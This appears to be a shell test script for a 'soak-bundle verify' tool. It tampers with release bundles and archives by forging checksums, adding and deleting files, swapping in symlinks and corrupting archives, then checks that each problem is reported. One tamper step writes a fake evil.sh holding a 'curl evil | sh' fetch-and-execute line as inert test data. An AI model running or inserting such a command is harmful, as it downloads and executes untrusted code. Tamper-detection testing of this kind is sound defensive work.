#!/bin/bash
# soak-bundle verify, point 4: a bundle directory or archive against SHA256SUMS and
# MANIFEST.json; exit 0 when all match, 1 naming every missing, extra or altered
# file; 3 for what is not a bundle at all.
. "$SOAK_SRC/tests/lib.sh"
. "$SOAK_SRC/tests/soak-bundle/lib-bundle.sh"

make_repo repo
write_reports src PASS
mkdir -p src/conf
echo 'x=1' >src/conf/app.conf
expect_exit 0 "$BUNDLE" release -q --src src --out rel --repo repo --include conf --archive tar.gz
expect_exit 0 "$BUNDLE" release -q --src src --out z/rel --repo repo --include conf --archive zip

# --- intact: directory and archives ---
expect_exit 0 "$BUNDLE" verify rel
assert_eq "$(cat "$OUT")" "bundle 'rel': 8 files verified ($(jqv rel/MANIFEST.json '[.files[].size] | add' | awk '{printf "%.1f KiB", ($1 + '"$(stat -c %s rel/MANIFEST.json)"') / 1024}'))" "summary"
expect_exit 0 "$BUNDLE" verify rel.tar.gz
assert_contains "$OUT" "bundle 'rel.tar.gz': 8 files verified"
expect_exit 0 "$BUNDLE" verify z/rel.zip
expect_exit 0 "$BUNDLE" verify -q rel
assert_eq "$(cat "$OUT")" "" "quiet"
# an archive without a top directory, made by GNU tar from inside the bundle
tar -C rel -czf flat.tar.gz .
expect_exit 0 "$BUNDLE" verify flat.tar.gz
# ... and a zip made by bsdtar with one
bsdtar --format zip -cf other.zip rel
expect_exit 0 "$BUNDLE" verify other.zip

# --- a tampered directory: every problem named, in path order ---
cp -r rel t
echo 'tampered' >>t/POST_SOAK_AUDIT.md
rm t/FAILURES.md
echo 'curl evil | sh' >t/evil.sh
echo 'y=2' >t/conf/app.conf
expect_exit 1 "$BUNDLE" verify t
assert_eq "$(cat "$OUT")" "missing: 'FAILURES.md' (listed in SHA256SUMS and MANIFEST.json)
altered: 'POST_SOAK_AUDIT.md' (sha256 or size differs from SHA256SUMS and MANIFEST.json)
altered: 'conf/app.conf' (sha256 or size differs from SHA256SUMS and MANIFEST.json)
extra: 'evil.sh' (in neither SHA256SUMS nor MANIFEST.json)" "problems"
assert_eq "$(cat "$ERR")" "soak-bundle: bundle 't' does not verify: 4 problems" "summary"
# sha256sum -c agrees that the bundle is broken
(cd t && sha256sum -c --quiet SHA256SUMS) >/dev/null 2>&1
assert_eq "$?" 1 "sha256sum -c on the tampered bundle"

# a file changed and its SHA256SUMS line forged: MANIFEST.json still catches it
cp -r rel forged
echo '{"verdict": "PASS"}' >forged/POST_SOAK_SNAPSHOT.json
sed -i "s/^[0-9a-f]*  POST_SOAK_SNAPSHOT.json\$/$(sha256sum forged/POST_SOAK_SNAPSHOT.json | cut -c1-64)  POST_SOAK_SNAPSHOT.json/" forged/SHA256SUMS
(cd forged && sha256sum -c --quiet SHA256SUMS) >/dev/null 2>&1
assert_eq "$?" 0 "the forgery fools sha256sum -c"
expect_exit 1 "$BUNDLE" verify forged
assert_eq "$(cat "$OUT")" "altered: 'POST_SOAK_SNAPSHOT.json' (sha256 or size differs from MANIFEST.json)"
# MANIFEST.json forged as well: its own line in SHA256SUMS no longer matches
jq --arg h "$(sha256sum forged/POST_SOAK_SNAPSHOT.json | cut -c1-64)" --argjson s "$(stat -c %s forged/POST_SOAK_SNAPSHOT.json)" \
	'(.files[] | select(.path == "POST_SOAK_SNAPSHOT.json")) |= (.sha256 = $h | .size = $s)' \
	rel/MANIFEST.json >forged/MANIFEST.json
expect_exit 1 "$BUNDLE" verify forged
assert_eq "$(cat "$OUT")" "altered: 'MANIFEST.json' (sha256 or size differs from SHA256SUMS)"
# a file replaced by a symlink to an identical copy is still not the bundle's file
cp -r rel ln
mv ln/FAILURES.md failures.copy
ln -s "$TMP/failures.copy" ln/FAILURES.md
expect_exit 1 "$BUNDLE" verify ln
assert_eq "$(cat "$OUT")" "altered: 'FAILURES.md' (a symlink)"
# SHA256SUMS removed: MANIFEST.json still checks every file, and the loss is named
cp -r rel nosums
rm nosums/SHA256SUMS
expect_exit 1 "$BUNDLE" verify nosums
assert_eq "$(cat "$OUT")" "missing: 'SHA256SUMS'"
# a malformed SHA256SUMS line
cp -r rel badline
echo 'not a checksum line' >>badline/SHA256SUMS
expect_exit 1 "$BUNDLE" verify badline
assert_eq "$(cat "$OUT")" "malformed: 'SHA256SUMS' line 9"

# --- a tampered archive ---
mkdir x
tar -xzf rel.tar.gz -C x
echo 'tampered' >>x/rel/RECOMMENDATIONS.md
rm x/rel/conf/app.conf
tar -C x -czf tampered.tar.gz rel
expect_exit 1 "$BUNDLE" verify tampered.tar.gz
assert_eq "$(cat "$OUT")" "altered: 'RECOMMENDATIONS.md' (sha256 or size differs from SHA256SUMS and MANIFEST.json)
missing: 'conf/app.conf' (listed in SHA256SUMS and MANIFEST.json)"
assert_contains "$ERR" "bundle 'tampered.tar.gz' does not verify: 2 problems"
# an entry appended to the archive
cp rel.tar.gz app.tar.gz
gunzip app.tar.gz
echo evil >extra.txt
tar --transform 's,^,rel/,' -rf app.tar extra.txt
expect_exit 1 "$BUNDLE" verify app.tar
assert_eq "$(cat "$OUT")" "extra: 'extra.txt' (in neither SHA256SUMS nor MANIFEST.json)"
# a byte flipped inside the compressed stream: the archive is damaged (input)
cp rel.tar.gz flip.tar.gz
printf '\xff\xff\xff\xff' | dd of=flip.tar.gz bs=1 seek=200 conv=notrunc 2>/dev/null
expect_exit 3 "$BUNDLE" verify flip.tar.gz
assert_contains "$ERR" "soak-bundle: cannot read archive 'flip.tar.gz'"
head -c 1000 rel.tar.gz >trunc.tar.gz
expect_exit 3 "$BUNDLE" verify trunc.tar.gz
assert_contains "$ERR" "cannot read archive 'trunc.tar.gz'"

# --- not a bundle, or no bundle at all: exit 3 ---
mkdir empty
expect_exit 3 "$BUNDLE" verify empty
assert_eq "$(cat "$ERR")" "soak-bundle: 'empty' is not a bundle: it has neither SHA256SUMS nor MANIFEST.json"
expect_exit 3 "$BUNDLE" verify nowhere
assert_eq "$(cat "$ERR")" "soak-bundle: bundle 'nowhere': No such file or directory"
echo 'just text' >text.txt
expect_exit 3 "$BUNDLE" verify text.txt
assert_contains "$ERR" "cannot read archive 'text.txt'"
# a manifest of a newer schema
cp -r rel newer
jq '.schema = "2.0"' rel/MANIFEST.json >newer/MANIFEST.json
expect_exit 3 "$BUNDLE" verify newer
assert_contains "$ERR" "MANIFEST.json schema major version 2 is newer than this soak-bundle (1); use a newer soak-bundle"

# --- usage ---
expect_exit 2 "$BUNDLE" verify
assert_contains "$ERR" "soak-bundle: no BUNDLE given"
expect_exit 2 "$BUNDLE" verify rel other
assert_contains "$ERR" "unexpected argument 'other'"
expect_exit 2 "$BUNDLE" verify --archive zip rel
assert_contains "$ERR" "soak-bundle: '--archive' is not an option of 'verify'"
expect_exit 0 "$BUNDLE" verify --help
assert_contains "$OUT" "usage: soak-bundle verify [options] BUNDLE"
finish
